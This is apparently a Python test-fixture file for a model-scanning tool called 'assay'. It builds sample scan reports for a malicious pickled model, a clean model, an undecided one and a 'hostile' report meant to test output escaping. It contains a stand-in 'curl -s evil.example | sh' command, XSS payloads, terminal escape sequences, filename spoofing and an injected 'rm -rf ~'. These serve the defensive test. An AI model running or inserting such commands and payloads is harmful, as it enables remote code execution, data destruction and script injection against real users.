"""Scan objects as `assay scan` would build them: a bad model, a clean one, an undecided one, and one full of traps."""

from __future__ import annotations

import hashlib
from typing import Any

from assay.reports import RuleNote, scan_report

MEGABYTE = 1_000_000
PART = "weights/part-2.bin"


def bad() -> dict[str, Any]:
    """A "MIT" model derived from Llama 2, whose pickle would call a shell."""
    shell = 'posix.system("curl -s evil.example | sh")'
    convert = "Do not load it. Ask for safetensors, or convert with `assay fix`, which runs nothing."
    parent = "declared MIT License, yet made from meta-llama/Llama-2-7b-hf, which is under Llama 2 Community License"
    findings = [
        finding("SEC101-pickle-call", "secure", "critical", f"loading this file calls {shell}",
                file="pytorch_model.bin", location="member archive/data.pkl, offset 187", fix=convert,
                detail={"call": "posix.system", "operation": "REDUCE", "offset": 187}),
        finding("OPN103-called-open-but-restricted", "open", "high", parent, file="README.md",
                location="key base_model", fix="Declare `license: llama2`, add its text and notices."),
        finding("OPN102-licence-text-missing", "open", "low", "the text of MIT License is missing",
                fix="Add it, unchanged, as LICENSE."),
        finding("POR102-unguarded-accelerator-import", "portable", "medium", "imports flash_attn, which needs CUDA",
                file="modeling_helper.py", location="line 12",
                fix="Import it inside try … except ImportError, with a fallback in plain torch."),
        finding("EVA101-no-results", "evaluated", "info", "no result of any evaluation is claimed", outcome="unknown",
                fix="Run `assay eval`."),
        finding("PRV101-unsigned", "provenance", "info", "nobody has signed these files", outcome="unknown",
                fix="Sign them with `assay attest`."),
        passing("SEC104-safetensors-malformed", "secure"), passing("SEC105-secret-in-text", "secure"),
        passing("POR101-vendor-locked-format", "portable"),
    ]  # fmt: skip
    axes = {
        "secure": axis("fail", f"loading this file calls {shell}."),
        "open": axis("fail", f"{parent}; 1 note."),
        "portable": axis("fail", "imports flash_attn, which needs CUDA."),
        "evaluated": axis("unknown", "no result of any evaluation is claimed."),
        "provenance": axis("unknown", "nobody has signed these files."),
    }
    verdict = {
        "policy": "default",
        "outcome": "refuse",
        "because": [
            reason("refuse", "deny", "known-danger", "Loading or running this could hurt you."),
            reason("refuse", "deny", "mislabelled-licence", "The licence it names is not the one that holds."),
        ],
        "would_change_if": [
            {"verdict": "admit", "changes": [
                "Ask for safetensors, or convert with `assay fix` (SEC101-pickle-call).",
                "Declare `license: llama2` (OPN103-called-open-but-restricted).",
            ]},
        ],
    }  # fmt: skip
    files = [
        file("README.md", 1_840, "card"), file("USE_POLICY.md", 4_212, "licence"), file("config.json", 655, "json"),
        file("modeling_helper.py", 9_301, "python"), file("pytorch_model.bin", 13_476 * MEGABYTE, "zip"),
        file("tokenizer.json", 2 * MEGABYTE, "json"),
    ]  # fmt: skip
    return scan("./llama-2-helper", files, findings, axes, verdict)


def clean() -> dict[str, Any]:
    """A model with nothing to say against it, signed."""
    findings = [
        passing("SEC101-pickle-call", "secure"), passing("SEC104-safetensors-malformed", "secure"),
        passing("OPN101-licence-undeclared", "open"), passing("POR101-vendor-locked-format", "portable"),
        passing("EVA101-no-results", "evaluated"), passing("PRV101-unsigned", "provenance"),
    ]  # fmt: skip
    axes = {
        "secure": axis("pass", "2 checks passed."),
        "open": axis("pass", "1 check passed."),
        "portable": axis("pass", "1 check passed."),
        "evaluated": axis("pass", "ledger-qa: 41 of 60 right (0.56 to 0.79)."),
        "provenance": axis("pass", "Published under a trusted signature; 1 check passed."),
    }
    because = [
        reason("admit", "deny", "known-danger", "Loading or running this could hurt you."),
        reason("admit", "require", "secure", "Every file that could carry code must have been read and found safe."),
    ]
    worse = {"verdict": "refuse", "changes": ["A new finding at high or above on secure."]}
    verdict = {"policy": "default", "outcome": "admit", "because": because, "would_change_if": [worse]}
    files = [
        file("LICENSE", 11_357, "licence"), file("README.md", 2_100, "card"), file("config.json", 512, "json"),
        file("model.safetensors", 268 * MEGABYTE, "safetensors"),
    ]  # fmt: skip
    signed = {"digest": sha("statement"), "keyid": sha("key")}
    return scan("./ledger-small", files, findings, axes, verdict, statement=signed)


def undecided() -> dict[str, Any]:
    """A remote model of which one file could not be read and one is of no known format."""
    why = "the zip directory lies outside the file"
    unread = finding("SEC101-pickle-call", "secure", "info", f"not judged: {why}", outcome="unknown", file=PART)
    findings = [
        unread,
        finding("PRV102-parent-undeclared", "provenance", "info", "the card names no base model", outcome="unknown",
                file="README.md", fix="Name it in the card: `base_model: ORG/NAME`."),
        passing("SEC105-secret-in-text", "secure"), passing("OPN101-licence-undeclared", "open"),
        passing("POR101-vendor-locked-format", "portable"),
    ]  # fmt: skip
    axes = {
        "secure": axis("unknown", f"not judged: {why}."),
        "open": axis("pass", "1 check passed."),
        "portable": axis("pass", "1 check passed."),
        "evaluated": axis("unknown", "No result is bound to this revision."),
        "provenance": axis("unknown", "the card names no base model."),
    }
    say = "Every file that could carry code must have been read and found safe."
    verdict = {
        "policy": "commercial",
        "outcome": "undecided",
        "because": [reason("undecided", "require", "secure", say, missing=["secure.ok"])],
        "would_change_if": [
            {"verdict": "admit", "changes": [f"Make it possible to judge: not judged: {why} (SEC101-pickle-call)."]}
        ],
    }
    files = [
        file("README.md", 900, "card"),
        file("weights/part-1.bin", 4_000 * MEGABYTE, "zip", grade="claimed by upstream"),
        file(PART, 4_000 * MEGABYTE, "zip", grade="not known"),
        file("weights/vocab.spm", 500_000, "unclaimed", grade="claimed by upstream"),
    ]
    return scan(
        "https://hub.example/orga/model@main", files, findings, axes, verdict, source="hub", git_commit="4f2c" * 10,
        isolation="not isolated", not_judged=[{"file": PART, "reason": why}], not_examined=["weights/vocab.spm"],
    )  # fmt: skip


TRAPS = (
    "\x1b[2J\x1b]0;owned\x07", "a\nb\r\nc", "\u202egnp.exe", "\u200bzero\u2060width", "\x9b31m", "\ud800lone",
    "<script>alert(1)</script>", "'\"><img src=x onerror=alert(1)>", "[click](javascript:alert(1))",
    "![x](https://evil.example/p.png)", "| a | b |", "`code` ```", "@everyone #1 https://evil.example www.evil.example",
    "{0} {1}", "</style><base href=//evil>", "--flag; rm -rf ~", "# heading", "<!-- -->", "\U000e0041tag", "𓀀 漢字 ñ",
)  # fmt: skip


def hostile() -> dict[str, Any]:
    """Every place that holds text from outside holds something that would do harm if it were not escaped."""
    every = " ".join(TRAPS)
    findings = [
        finding(
            "SEC101-pickle-call", "secure", "critical", f"calls {trap}", file=f"{trap}.bin",
            location=f"member {trap}, offset 7", fix=f"remove {trap}", detail={trap: trap},
        )
        for trap in TRAPS
    ]  # fmt: skip
    findings.append(finding(f"OPN999-{every}", "open", "low", every, file=every, location=every, fix=every))
    findings.append(finding("POR300-loud", "portable", "info", "x" * 5_000, outcome="unknown", file="y" * 3_000))
    axes = {name: axis("fail", every) for name in ("secure", "open", "portable", "evaluated", "provenance")}
    verdict = {"policy": every, "outcome": "refuse", "because": [reason("refuse", "deny", every, every)],
               "would_change_if": [{"verdict": "admit", "changes": [every]}]}  # fmt: skip
    files = [file(f"{trap}.bin", 7, "pickle", grade="not known") for trap in TRAPS]
    return scan(every, files, findings, axes, verdict, not_judged=[{"file": trap, "reason": trap} for trap in TRAPS],
                not_examined=list(TRAPS))  # fmt: skip


SAMPLES = {"bad": bad, "clean": clean, "undecided": undecided, "hostile": hostile}

RULES: dict[str, RuleNote] = {
    "SEC101-pickle-call": {
        "title": "Every call that pickles make is one that frameworks write.",
        "page": "Every call that pickles make is one that frameworks write.\n\n"
                "A pickle is a small program: loading it may call any function.\n\n"
                "Sample: `cposix` calls {anything}.\n\nFix: convert it to safetensors.",
        "severity": "critical",
    },
    "PRV101-unsigned": {"title": "A signature lies beside the files.", "page": "Sign it.", "severity": "info"},
}  # fmt: skip


def scan(
    name: str,
    files: list[Any],
    findings: list[Any],
    axes: Any,
    verdict: Any,
    *,
    source: str = "folder",
    isolation: str = "isolated",
    git_commit: str | None = None,
    statement: Any = None,
    not_judged: Any = (),
    not_examined: Any = (),
) -> dict[str, Any]:
    predicate = {
        "tool": {"name": "assay", "version": "0.1.0"},
        "readers": ["json/1"],
        "checks": ["SEC101/1"],
        "rules": sha("rules"),
        "files": files,
        "findings": findings,
        "facts": {},
        "not_judged": list(not_judged),
        "not_examined": list(not_examined),
    }
    statement = statement or {"digest": sha("statement"), "keyid": None}
    return scan_report(
        name, source, predicate, axes, verdict, isolation=isolation, git_commit=git_commit, statement=statement
    )


def finding(
    rule: str,
    axis: str,
    severity: str,
    message: str,
    *,
    outcome: str = "fail",
    file: str | None = None,
    location: str | None = None,
    fix: str | None = None,
    detail: Any = None,
) -> dict[str, Any]:
    return {
        "rule": rule, "axis": axis, "outcome": outcome, "severity": severity, "confidence": "high", "message": message,
        "file": file, "location": location, "fix": fix, "detail": detail or {},
    }  # fmt: skip


def passing(rule: str, axis: str) -> dict[str, Any]:
    return finding(rule, axis, "info", "nothing to say", outcome="pass")


def axis(outcome: str, why: str) -> dict[str, Any]:
    return {"outcome": outcome, "reason": why, "statements": [sha("statement")]}


def reason(outcome: str, kind: str, name: str, say: str, missing: Any = ()) -> dict[str, Any]:
    told = {"outcome": outcome, "say": say, "missing": list(missing), "statements": []}
    return {"rule": {"kind": kind, "name": name}, **told}


def file(path: str, size: int, form: str, *, grade: str = "computed") -> dict[str, Any]:
    digest = None if grade == "not known" else sha(path)
    return {"path": path, "size": size, "sha256": digest, "digest": grade, "format": form}


def sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
